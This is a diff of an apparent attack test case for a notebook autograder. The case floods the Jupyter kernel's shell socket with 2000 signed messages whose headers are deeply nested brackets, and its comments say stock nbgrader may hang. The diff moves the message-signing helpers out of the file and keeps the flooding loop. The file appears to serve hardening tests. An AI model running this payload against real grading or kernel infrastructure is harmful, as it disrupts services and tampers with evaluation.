@@ -1,21 +1,6 @@
 # attack: signed messages whose header is a list, sent as replies by the thousand
 # outcome: flagged: well formed|larger than
 # stock: no: may hang stock nbgrader for its whole time
-import json
-
-kernel = get_ipython().kernel
-session, parent = kernel.session, get_ipython().parent_header
-own = json.dumps(parent.get("header", {}), default=str).encode()
-
-
-def post(header, parent=own, metadata=b"{}", content=b"{}", more=(), socket=kernel.iopub_socket, first=()):
-    parts = [header, parent, metadata, content]
-    socket.send_multipart([*first, b"<IDS|MSG>", session.sign(parts), *parts, *more])
-
-
-def header(kind="stream"):
-    return json.dumps({"msg_id": session.msg_id, "msg_type": kind, "version": "5.3", "session": session.session}).encode()
-
-
+# with: signing
 for number in range(2000):
     post(b"[" * (number % 900) + b"]" * (number % 900) or b"[]", socket=kernel.shell_stream, first=kernel._parent_ident.get("shell", [b"x"]))
